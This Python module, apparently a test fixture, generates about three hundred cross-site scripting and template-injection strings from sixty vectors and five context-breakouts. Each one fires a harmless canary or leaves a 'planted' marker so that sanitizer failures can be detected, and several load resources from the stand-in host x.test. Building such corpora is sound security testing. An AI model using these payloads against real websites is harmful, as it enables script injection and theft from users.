"""Three hundred texts that become script or markup where somebody forgets that they are texts.

Each calls `canary(n)` if it runs, and leaves an element with the attribute `planted` if it is parsed. Sixty ways in, each as it is and
after four ways out of where a text usually stands.
"""

WAYS_IN = (
    "<script planted>canary({n})</script>", "<script planted src=//x.test/{n}></script>", "<ScRiPt planted>canary({n})</sCrIpT>",
    "<img planted src=x onerror=canary({n})>", "<img planted src=x onerror='canary({n})'/>", "<IMG planted SRC=x ONERROR=canary({n})>",
    "<img/planted/src=x/onerror=canary({n})>", "<img planted src=x onerror=&#99;anary({n})>",
    "<img planted src=x onerror=\\u0063anary({n})>", "<svg planted onload=canary({n})>",
    "<svg planted><script>canary({n})</script></svg>", "<svg planted><animate onbegin=canary({n}) attributeName=x>",
    "<svg planted><a href=javascript:canary({n})><text>x</text></a>", "<svg planted><use href=data:image/svg+xml,{n}#x>",
    "<svg planted><foreignObject><img src=x onerror=canary({n})>", "<iframe planted src=javascript:canary({n})>",
    "<iframe planted srcdoc='<script>parent.canary({n})</script>'>", "<object planted data=javascript:canary({n})>",
    "<embed planted src=javascript:canary({n})>", "<a planted href=javascript:canary({n})>x</a>",
    "<a planted href='java&#9;script:canary({n})'>x</a>", "<a planted href=data:text/html,{n}>x</a>",
    "<details planted open ontoggle=canary({n})>", "<video planted><source onerror=canary({n})>",
    "<audio planted src=x onerror=canary({n})>", "<input planted autofocus onfocus=canary({n})>",
    "<select planted autofocus onfocus=canary({n})>", "<textarea planted autofocus onfocus=canary({n})>",
    "<button planted autofocus onfocus=canary({n})>x", "<body planted onload=canary({n})>",
    "<form planted action=javascript:canary({n})><button>x", "<form planted id=app><input name=nodes></form>{n}",
    "<a planted id=config href={n}>", "<base planted href=//x.test/{n}/>", "<meta planted http-equiv=refresh content=0;url=//x.test/{n}>",
    "<link planted rel=stylesheet href=//x.test/{n}.css>", "<style planted>*{{background:url(//x.test/{n})}}</style>",
    "<div planted style=background:url(//x.test/{n})>x</div>", "<div planted onmouseover=canary({n})>x</div>",
    "<p planted style=animation-name:x onanimationstart=canary({n})>", "<marquee planted onstart=canary({n})>x",
    "<math planted><mtext><img src=x onerror=canary({n})>", "<math planted href=javascript:canary({n})>x",
    "<noscript planted><p title='</noscript><img src=x>{n}'>", "<template planted><img src=x onerror=canary({n})></template>",
    "<table planted background=//x.test/{n}><td>x", "<dialog planted open>{n}</dialog>",
    "<isindex planted type=image src=1 onerror=canary({n})>", "<portal planted src=javascript:canary({n})>",
    "<x planted onclick=canary({n}) tabindex=1>x</x>", "<!--><img planted src=x onerror=canary({n})>",
    "<![CDATA[<img planted src=x onerror=canary({n})>]]>", "&lt;img planted src=x onerror=canary({n})&gt;",
    "%3Cimg planted src=x onerror=canary({n})%3E", "\uff1cimg planted src=x onerror=canary({n})\uff1e", "javascript:canary({n})",
    "{{{{constructor.constructor('canary({n})')()}}}}", "${{canary({n})}}", "<${{canary({n})}} planted />",
    "{{\"type\":\"img\",\"props\":{{\"planted\":1,\"dangerouslySetInnerHTML\":{{\"__html\":{n}}}}}}}",
)  # fmt: skip
WAYS_OUT = ("", '">', "'>", "--></title></textarea></script></style>", '\\" onfocus=canary({n}) autofocus x="')
ALL = tuple((out + into).format(n=n) for n, (out, into) in enumerate((out, into) for into in WAYS_IN for out in WAYS_OUT))
"""All of them; each is unique, also after folding, for each says its number."""


def sample(few: int) -> tuple[str, ...]:
    """Return some of them, spread over all ways in and out."""
    step = len(ALL) // few
    return ALL[:: max(1, step - (step % len(WAYS_OUT) == 0))][:few]
